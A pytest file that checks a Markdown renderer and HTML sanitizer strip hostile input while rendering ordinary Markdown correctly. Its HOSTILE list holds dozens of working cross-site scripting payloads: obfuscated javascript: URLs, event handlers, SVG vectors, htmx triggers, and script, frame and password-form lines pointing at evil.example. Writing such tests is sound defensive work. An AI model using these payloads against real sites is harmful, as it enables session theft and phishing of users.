"""cadre.lib.markdown: hostile input never comes out as live markup, whether it goes through
the whole pipeline (render: Markdown, then nh3) or straight into the sanitizer (sanitize), and
ordinary Markdown still renders as people expect."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from cadre.lib.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render, sanitize

HOSTILE = [
    # scripts, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<script/x>alert(1)</script>",
    # event handlers
    '<img src=x onerror="alert(1)">',
    "<p onclick=alert(1)>click</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    # javascript:, data: and vbscript: URLs, plain, encoded, mixed case, split
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    # svg, frames, objects, styles
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0">covering</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # htmx and data attributes
    '<div hx-get="/account/delete" hx-trigger="load">x</div>',
    '<a href="https://ok.example" hx-post="/x" hx-swap="outerHTML">x</a>',
    '<p data-hx-get="/x" data-hx-trigger="load">x</p>',
    '<p data-anything="1">x</p>',
    # images: raw and Markdown, remote
    '<img src="https://evil.example/pixel.png">',
    "<IMG SRC=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    '![pixel](https://evil.example/pixel.png "a title")',
    "[![nested](https://evil.example/p.png)](https://ok.example)",
    # forms, meta refresh, base
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    # nested and unclosed tags
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div><p><b><i>unclosed",
    "<a href='https://ok.example'><a href='javascript:alert(1)'>inner</a>",
    '<table><tr><td onmouseover=alert(1) style="x">a</td></tr></table>',
    "<!-- <script>alert(1)</script> -->",
    "| a | b |\n|---|---|\n| <script>x</script> | [l](javascript:x) |",
    '[a](https://x "t\\" onclick=\\"alert(1)")',
]

ALLOWED_SCHEMES = {"", "http", "https", "mailto"}
EVERY_ALLOWED_ATTRIBUTE = set().union(*ALLOWED_ATTRIBUTES.values()) | {"rel"}


class Collector(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def parsed(html: str) -> list[tuple[str, dict[str, str]]]:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def scheme_of(href: str) -> str:
    """The scheme a browser would see: it drops ASCII whitespace and control characters."""
    cleaned = re.sub(r"[\x00-\x20\x7f]", "", href)
    return urlsplit(cleaned).scheme.lower()


def assert_harmless(html: str) -> None:
    for tag, attrs in parsed(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        assert tag != "img", html
        for name, value in attrs.items():
            assert not name.startswith(("on", "hx-", "data-")), (name, html)
            assert name != "style", html
            assert name in EVERY_ALLOWED_ATTRIBUTE, (name, html)
            if name == "href":
                assert scheme_of(value) in ALLOWED_SCHEMES, (value, html)


def test_the_list_is_long_enough():
    assert len(HOSTILE) >= 25


@pytest.mark.parametrize("source", HOSTILE)
def test_rendered_markdown_is_harmless(source):
    assert_harmless(str(render(source)))
    assert_harmless(str(render(f"Some text first.\n\n{source}\n\nAnd after.")))


@pytest.mark.parametrize("source", HOSTILE)
def test_the_sanitizer_alone_makes_raw_html_harmless(source):
    assert_harmless(sanitize(source))


def test_scripts_and_styles_lose_their_content_in_the_sanitizer():
    cleaned = sanitize("<script>alert('x')</script><style>p{}</style>ok")
    assert cleaned == "ok"


def test_raw_html_in_markdown_is_shown_as_text():
    assert str(render("<b>bold?</b>")) == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>\n"


# --- ordinary Markdown ------------------------------------------------------------------------


def test_headings_emphasis_and_paragraphs():
    html = str(render("# Title\n\n## Part\n\nSome *emphasis* and **strength**."))
    assert "<h1>Title</h1>" in html and "<h2>Part</h2>" in html
    assert "<em>emphasis</em>" in html and "<strong>strength</strong>" in html


def test_lists_ordered_and_not():
    html = str(render("- one\n- two\n\n3. three\n4. four"))
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert '<ol start="3">' in html and "<li>four</li>" in html


def test_code_inline_and_fenced_is_escaped():
    html = str(render("Use `<b>` here.\n\n```\n<script>x</script>\n```"))
    assert "<code>&lt;b&gt;</code>" in html
    assert "<pre><code>&lt;script&gt;x&lt;/script&gt;\n</code></pre>" in html


def test_tables_and_strikethrough():
    html = str(render("| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~"))
    tags = [tag for tag, _ in parsed(html)]
    assert {"table", "thead", "tbody", "tr", "th", "td", "s"} <= set(tags)
    assert "<td>1</td>" in html


def test_blockquotes_and_rules():
    html = str(render("> quoted\n\n---"))
    assert "<blockquote>" in html and "<hr>" in html


@pytest.mark.parametrize(
    "source",
    ["[site](https://example.org)", "[mail](mailto:a@example.org)", "<https://example.org>"],
)
def test_links_keep_their_target_and_get_a_safe_rel(source):
    links = [attrs for tag, attrs in parsed(str(render(source))) if tag == "a"]
    assert len(links) == 1
    assert links[0]["href"] in ("https://example.org", "mailto:a@example.org")
    assert links[0]["rel"] == "nofollow noopener noreferrer"


def test_a_markdown_image_is_a_link_to_it_not_an_image():
    tags = parsed(str(render("![the chart](https://example.org/chart.png)")))
    assert tags == [
        ("p", {}),
        ("a", {"href": "https://example.org/chart.png", "rel": "nofollow noopener noreferrer"}),
    ]


def test_empty_input_renders_nothing():
    assert render("") == "" and render(None) == ""


def test_a_text_rendered_again_is_read_from_what_was_kept_and_still_sanitized():
    from cadre.lib import markdown

    text = "**Kept** once <script>alert(1)</script> [x](javascript:alert(1))"
    first = render(text)
    hits = markdown._render_kept.cache_info().hits
    again = render(text)
    assert again == first and markdown._render_kept.cache_info().hits == hits + 1
    assert "<strong>Kept</strong>" in again and "<script" not in again
    assert 'href="javascript' not in again


def test_a_long_text_is_rendered_each_time_and_not_kept():
    from cadre.lib import markdown

    long = "word " * markdown.KEPT_SOURCE_CHARS
    size = markdown._render_kept.cache_info().currsize
    assert render(long).startswith("<p>word word")
    assert markdown._render_kept.cache_info().currsize == size
